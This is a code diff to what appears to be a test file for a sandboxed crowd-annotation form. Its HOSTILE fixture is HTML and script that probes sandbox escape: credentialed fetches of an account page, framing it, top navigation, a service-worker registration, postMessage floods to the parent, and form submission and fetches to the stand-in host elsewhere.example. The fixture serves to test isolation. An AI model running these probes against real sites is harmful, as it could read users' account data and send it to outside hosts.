@@ -18,8 +18,9 @@ CROWD = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></scrip
   <crowd-input name="note" label="A note" required></crowd-input>
   <crowd-checkbox name="sure" checked>I am sure</crowd-checkbox>
 </crowd-form>"""
-HOSTILE = """<p id=said>…</p><form id=f action="https://elsewhere.example/take" method=post>
-<input name=a value=1></form><script>
+HOSTILE = """<p id=said>…</p><form id=f method=post><input name=a value=1></form>
+<button id=post type=button>Post elsewhere</button><script>
+const elsewhere = "https:" + "/" + "/elsewhere.example/take";
 const said = {}, here = new URL(document.URL).origin;
 const attempt = async (name, act) => {
   try { said[name] = "reached " + (await act()); } catch (refused) { said[name] = "refused"; }
@@ -32,18 +33,22 @@ const attempt = async (name, act) => {
   await attempt("top navigation", () => { top.location = here + "/ledger/"; });
   await attempt("worker", () => navigator.serviceWorker.register("/service-worker.js"));
   await attempt("api", () => fetch(here + "/account", { credentials: "include" }));
-  await attempt("elsewhere", () => fetch("https://elsewhere.example/"));
+  await attempt("elsewhere", () => fetch(elsewhere));
   const framed = document.createElement("iframe");
   framed.src = here + "/account";
   document.body.append(framed);
   await new Promise((done) => { framed.onload = done; setTimeout(done, 500); });
   await attempt("frame", () => framed.contentDocument.title);
-  document.getElementById("f").submit();
   for (let n = 0; n < 20000; n += 1) parent.postMessage({ canut: n % 2 ? "received" : "draft",
     form: [["x".repeat(500), "y"]] }, "*");
   for (let n = 0; n < 2000; n += 1) parent.postMessage({ canut: "active" }, "*");
   document.getElementById("said").textContent = JSON.stringify(said);
 })();
+document.getElementById("post").onclick = () => {
+  const form = document.getElementById("f");
+  form.action = elsewhere;
+  form.submit();
+};
 </script>"""
 
 
